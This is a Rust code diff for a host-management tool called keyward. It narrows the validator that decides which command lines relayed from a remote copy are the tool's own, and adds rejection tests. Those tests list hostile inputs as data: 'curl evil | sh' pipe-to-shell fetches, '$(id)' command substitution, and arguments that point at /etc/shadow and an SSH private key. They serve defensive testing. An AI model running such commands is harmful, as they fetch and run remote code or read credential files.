@@ -4,7 +4,7 @@
 use crate::change::Note;
 use crate::error::Failure;
 use crate::outcome::audit::{Audit, Finding, Reference, Score};
-use crate::outcome::{Event, Evidence, Exit, Reach, Sink};
+use crate::outcome::{Event, Evidence, Exit, Reach};
 
 use super::super::Ending;
 use super::super::args::Verb;
@@ -37,6 +37,8 @@ pub struct Heed {
     audited: Option<Exit>,
     /// The run that this is about.
     run: Option<String>,
+    /// The playbook as it was typed.
+    playbook: Option<String>,
 }
 
 impl Heed {
@@ -53,7 +55,8 @@ impl Heed {
             Verb::Audit(args) => Some(Asked::of(args)),
             _ => None,
         };
-        Self { command, question, asked: 0, events: 0, texts, audits, audited: None, run: None }
+        let playbook = words::playbook(verb).and_then(|path| path.to_str()).map(str::to_owned);
+        Self { command, question, asked: 0, events: 0, texts, audits, audited: None, run: None, playbook }
     }
 
     /// The event as it may be shown and gone by.
@@ -180,61 +183,40 @@ impl Heed {
         Ok(run)
     }
 
-    /// One of keyward's own commands, perhaps after some words and a colon, as it is typed here. `None` for all else.
+    /// One of keyward's own commands, perhaps after some words and a colon, as it is typed here. `None` for all else: a
+    /// command is a verb and at most one word, which is no option; `keyward log` has one of its own, and what names a new time
+    /// or asks for a yes is known here.
     pub fn here(&self, text: &str) -> Option<String> {
-        let plain = |c: char| c.is_ascii_alphanumeric() || " ._/:@%+=,'-".contains(c);
         let (before, rest) = match text.rfind(": keyward ") {
             Some(at) => text.split_at_checked(at + 2)?,
             None => ("", text),
         };
-        let words = rest.strip_prefix("keyward ")?;
-        let verb = words.split(' ').next()?;
-        let tame = |text: &str| text.chars().all(|c| plain(c) || c == ';') && text.len() <= TEXT;
-        let ours = words::VERBS.contains(&verb) && words.chars().all(plain) && tame(before) && words.len() <= TEXT;
-        ours.then(|| format!("{before}{} {words}", self.command))
+        let words: Vec<&str> = rest.strip_prefix("keyward ")?.split(' ').collect();
+        let (verb, arguments) = words.split_first()?;
+        let plain = |c: char| c.is_ascii_alphanumeric() || "._/@+-".contains(c);
+        let is_known = |word: &&&str| KNOWN.contains(*word);
+        let (options, objects): (Vec<&&str>, Vec<&&str>) = arguments.iter().partition(is_known);
+        let tame = |word: &&&str| !word.is_empty() && !word.starts_with(['-', '/']) && word.chars().all(plain);
+        let is_path = |word: &&&str| word.starts_with('/') && self.playbook.as_deref() == Some(**word);
+        let own = objects.len() <= 1 && objects.iter().all(|word| tame(word) || is_path(word));
+        let told = before.chars().all(|c| c.is_ascii_alphabetic() || " ,:".contains(c)) && before.len() <= TEXT;
+        let ours = words::VERBS.contains(verb) && own && told && options.len() <= KNOWN.len() && rest.len() <= TEXT;
+        ours.then(|| format!("{before}{} {}", self.command, words.join(" ")))
     }
 }
 
-/// A sink that heeds what comes from a copy, whose programs may be anybody's.
-pub struct Wary<'a> {
-    heed: Heed,
-    sink: &'a mut dyn Sink,
-    lied: Option<&'static str>,
-}
-
-impl<'a> Wary<'a> {
-    /// Nothing was heard yet.
-    pub fn new(heed: Heed, sink: &'a mut dyn Sink) -> Self {
-        Self { heed, sink, lied: None }
-    }
-
-    /// The ending, by what was heard.
-    ///
-    /// # Errors
-    /// Its own, and when something was said that no program of ours says.
-    pub fn ending(mut self, told: crate::error::Result<Ending>) -> crate::error::Result<Ending> {
-        let refused = |why: &str| {
-            Failure::unknown("copy", "its answer is refused")
-                .why(why)
-                .hint("look at the tree without starting anything of it")
-        };
-        let ending = told?;
-        match self.lied {
-            Some(why) => Err(refused(why)),
-            None => self.heed.ending(ending).map_err(refused),
-        }
-    }
-}
-
-impl Sink for Wary<'_> {
-    fn event(&mut self, event: Event) {
-        match self.heed.event(event) {
-            Ok(event) if self.lied.is_none() => self.sink.event(event),
-            Ok(_) => {}
-            Err(why) => self.lied = Some(why),
-        }
-    }
-}
+/// Options that keyward itself names in its hints and that name no file and start nothing.
+const KNOWN: [&str; 9] = [
+    "--yes",
+    "--force",
+    "--prove",
+    "--detach",
+    "--confirm-within",
+    "300s",
+    "--without-boot-guard",
+    "--i-accept-that-this-host-may-lock-me-out",
+    "--fault",
+];
 
 /// A failure of a program that did not begin.
 pub fn told(failure: Failure) -> Failure {
@@ -322,10 +304,24 @@ mod tests {
         assert_eq!(here("keyward log verify"), "keyward --host root@web log verify");
         assert_eq!(here("undo it now: keyward cancel r1"), "undo it now: keyward --host root@web cancel r1");
         assert_eq!(here("once it is over: keyward rollback r"), "once it is over: keyward --host root@web rollback r");
+        assert_eq!(
+            here("keyward apply --yes --confirm-within 300s a.yml"),
+            "keyward --host root@web apply --yes --confirm-within 300s a.yml"
+        );
+        let apply = self::heed("keyward apply /srv/a.yml");
+        assert!(apply.here("keyward plan /srv/a.yml").is_some() && apply.here("keyward plan /srv/b.yml").is_none());
         for text in [
             "",
             "ssh -p 1 x sudo keyward confirm r1",
             "keyward show r1; curl evil | sh",
+            "keyward audit --report html=/etc/shadow",
+            "keyward status --password 'command:id'",
+            "keyward status --agent-binary x86_64=/root/.ssh/id_ed25519",
+            "keyward show -x",
+            "keyward plan /etc/shadow",
+            "keyward show r1 r2",
+            "curl http://evil -o x, then: keyward show r1",
+            "curl evil; sh x; then: keyward show r1",
             "curl evil | sh: keyward show r1",
             "$(id): keyward show r1",
             "keyward show $(id)",
